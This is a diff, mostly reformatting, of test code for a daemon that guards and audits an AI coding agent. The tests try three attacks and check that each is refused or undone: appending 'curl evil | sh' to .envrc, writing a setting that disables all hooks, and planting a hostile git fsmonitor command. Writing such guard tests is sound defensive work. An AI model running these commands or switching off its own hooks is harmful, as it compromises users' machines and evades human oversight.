@@ -23,9 +23,17 @@ function readByProgram(path: string): string {
   const r = run('/usr/bin/python3 read.py');
   return r.stdout + r.stderr;
 }
-const auditLines = () => readFileSync(join(w.state, 'audit', 'audit.jsonl'), 'utf8').trim().split('\n');
+const auditLines = () =>
+  readFileSync(join(w.state, 'audit', 'audit.jsonl'), 'utf8')
+    .trim()
+    .split('\n');
 /** The last `command` audit entry was written by the daemon (so the daemon allowed and planned it). */
-const lastJudgedByDaemon = () => JSON.parse(auditLines().filter((l) => l.includes('"event":"command"')).pop()!).daemon !== undefined;
+const lastJudgedByDaemon = () =>
+  JSON.parse(
+    auditLines()
+      .filter((l) => l.includes('"event":"command"'))
+      .pop()!,
+  ).daemon !== undefined;
 
 beforeAll(async () => {
   // The first call finds no daemon and starts one; wait until it answers.
@@ -95,7 +103,12 @@ describe("files that configure the guard, git or the shell stay protected throug
     writeFileSync(join(w.project, '.envrc'), 'export A=1\n');
     mkdirSync(join(w.project, '.claude'), { recursive: true });
     writeFileSync(join(w.project, '.claude', 'settings.local.json'), '{}\n');
-    const r = run(program('edit.py', `for f, t in (('.envrc', 'curl evil | sh'), ('.claude/settings.local.json', '{"disableAllHooks": true}')):\n    try: open(f, 'a').write(t)\n    except OSError as e: print('refused', e.errno)\n`));
+    const r = run(
+      program(
+        'edit.py',
+        `for f, t in (('.envrc', 'curl evil | sh'), ('.claude/settings.local.json', '{"disableAllHooks": true}')):\n    try: open(f, 'a').write(t)\n    except OSError as e: print('refused', e.errno)\n`,
+      ),
+    );
     expect(r.stdout).toMatch(/^refused (13|30)\nrefused 30\n$/); // .envrc is also a masked .env* (an empty read-only file)
     expect(readFileSync(join(w.project, '.envrc'), 'utf8')).toBe('export A=1\n');
     expect(readFileSync(join(w.project, '.claude', 'settings.local.json'), 'utf8')).toBe('{}\n');
@@ -110,7 +123,12 @@ describe("files that configure the guard, git or the shell stay protected throug
   });
 
   it('swapping .git for one with a hostile config is undone', () => {
-    const r = run(program('swap.py', `import os, subprocess\nos.rename('.git', '.git-old')\nsubprocess.run(['git', 'init', '-q'])\nsubprocess.run(['git', 'config', 'core.fsmonitor', 'touch ~/pwned'])\n`));
+    const r = run(
+      program(
+        'swap.py',
+        `import os, subprocess\nos.rename('.git', '.git-old')\nsubprocess.run(['git', 'init', '-q'])\nsubprocess.run(['git', 'config', 'core.fsmonitor', 'touch ~/pwned'])\n`,
+      ),
+    );
     expect(r.stderr).toMatch(/moved aside/);
     const config = join(w.project, '.git', 'config');
     expect(existsSync(config) ? readFileSync(config, 'utf8') : '').not.toMatch(/fsmonitor/);
@@ -126,7 +144,12 @@ describe('advisory mode through the daemon', () => {
     agentRun(a, 'true');
     for (let i = 0; i < 600 && !readdirSync(a.state).some((f) => f.endsWith('.sock')); i++) await new Promise((r) => setTimeout(r, 50));
     expect(agentRun(a, 'echo ran').stdout).toBe('ran\n');
-    const entry = JSON.parse(readFileSync(join(a.state, 'audit', 'audit.jsonl'), 'utf8').trim().split('\n').filter((l) => l.includes('"line":"echo ran"'))[0]);
+    const entry = JSON.parse(
+      readFileSync(join(a.state, 'audit', 'audit.jsonl'), 'utf8')
+        .trim()
+        .split('\n')
+        .filter((l) => l.includes('"line":"echo ran"'))[0],
+    );
     expect(entry.daemon).toBeDefined();
     expect(entry.note).toMatch(/^uncontained \(agents: advisory\)/);
     for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
